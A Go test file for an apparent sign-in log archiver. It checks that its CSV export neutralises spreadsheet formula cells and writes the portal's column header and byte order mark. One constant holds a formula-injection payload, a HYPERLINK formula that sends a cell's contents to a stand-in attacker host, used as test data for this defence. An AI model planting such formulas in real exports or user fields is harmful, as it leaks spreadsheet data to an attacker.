package export

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/entra-archiver/entra-archiver/internal/archive"
	"github.com/entra-archiver/entra-archiver/internal/archive/local"
	"github.com/entra-archiver/entra-archiver/internal/audit"
	"github.com/entra-archiver/entra-archiver/internal/format"
	"github.com/entra-archiver/entra-archiver/internal/job/jobtest"
)

// hostileName is what an attacker types as a display name at a sign-in
// page: opened in a spreadsheet, a live link.
const hostileName = `=HYPERLINK("https://evil.example/?"&A1,"Click to verify")`

// formulaArchive archives a few sign-ins, one carrying hostileName, in the
// given formats.
func formulaArchive(t *testing.T, formats ...string) archive.Sink {
	t.Helper()
	sink, err := local.New(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	var served []jobtest.Served
	for i := range 6 {
		at := time.Date(2026, 11, 19, 20, 5+7*i, 0, 0, time.UTC)
		name := fmt.Sprintf("User %d", i)
		if i == 3 {
			name = hostileName
		}
		raw := fmt.Sprintf(`{"id":"f%d","createdDateTime":%q,"userDisplayName":%q,"userPrincipalName":"u%d@contoso.com","status":{"errorCode":-1},"location":{"city":"Zürich","state":"ZH","countryOrRegion":"CH"}}`,
			i, at.Format(time.RFC3339), name, i)
		served = append(served, jobtest.Served{Rec: audit.Record{ID: fmt.Sprintf("f%d", i), Time: at, Raw: []byte(raw)}, Visible: at})
	}
	jobtest.ArchiveHourly(t, jobSettings(formats...), served, sink, testLay, t0, 3)
	return sink
}

// TestSpreadsheetFormulasAreNeutralised: a cell a spreadsheet would run as
// a formula is exported with a leading ' (numbers such as -1 stay numbers),
// whether the row is made from the record's JSON or copied from a csv
// part, in the archive's columns and in the portal's; --raw-csv writes it
// as it is.
func TestSpreadsheetFormulasAreNeutralised(t *testing.T) {
	quoted := `"` + strings.ReplaceAll(hostileName, `"`, `""`) + `"`
	neutral := `"'` + strings.ReplaceAll(hostileName, `"`, `""`) + `"`
	for _, tc := range []struct {
		name    string
		formats []string
		columns string
	}{
		{"from jsonl parts", []string{"jsonl"}, ColumnsGraph},
		{"from csv-only parts", []string{"csv"}, ColumnsGraph},
		{"portal columns", []string{"jsonl"}, ColumnsPortal},
	} {
		t.Run(tc.name, func(t *testing.T) {
			sink := formulaArchive(t, tc.formats...)
			o := options(sink, "csv", wholeFrom, wholeTo)
			o.Columns = tc.columns
			got, stats := run(t, o)
			if stats.Records != 6 || !strings.Contains(got, ","+neutral+",") || strings.Contains(got, ","+quoted+",") {
				t.Fatalf("export of %d records does not neutralise the formula cell:\n%s", stats.Records, got)
			}
			if tc.columns == ColumnsGraph && !strings.Contains(got, ",-1,") {
				t.Fatalf("a negative number was neutralised:\n%s", got)
			}
			o.RawCSV = true
			raw, _ := run(t, o)
			if !strings.Contains(raw, ","+quoted+",") || strings.Contains(raw, neutral) {
				t.Fatalf("--raw-csv changed the cell:\n%s", raw)
			}
		})
	}
}

// TestPortalColumnsAndBOM: --columns portal writes the portal's header in
// its order; --bom starts csv with the UTF-8 byte order mark Excel needs;
// both are refused with another format.
func TestPortalColumnsAndBOM(t *testing.T) {
	sink := formulaArchive(t, "jsonl")
	o := options(sink, "csv", wholeFrom, wholeTo)
	o.Columns, o.BOM = ColumnsPortal, true
	got, _ := run(t, o)
	if !strings.HasPrefix(got, "\ufeff") {
		t.Fatalf("no BOM: %.40q", got)
	}
	var names []string
	for _, c := range format.PortalColumns(audit.InteractiveSignIns) {
		names = append(names, c.Name)
	}
	header, _, _ := strings.Cut(strings.TrimPrefix(got, "\ufeff"), "\r\n")
	if !strings.HasPrefix(header, "Date (UTC),Request ID,User agent,") || strings.Count(header, ",") != len(names)-1 {
		t.Fatalf("portal header %q, want the portal's %d columns", header, len(names))
	}
	if !strings.Contains(got, `"Zürich, ZH, CH"`) {
		t.Fatalf("no portal Location cell in:\n%s", got)
	}
	for _, bad := range []Options{
		{Format: "json", Columns: ColumnsPortal}, {Format: "jsonl", BOM: true}, {Format: "json", RawCSV: true}, {Format: "csv", Columns: "excel"},
	} {
		if err := bad.CheckCSVOptions(); err == nil {
			t.Errorf("%+v accepted", bad)
		}
	}
}
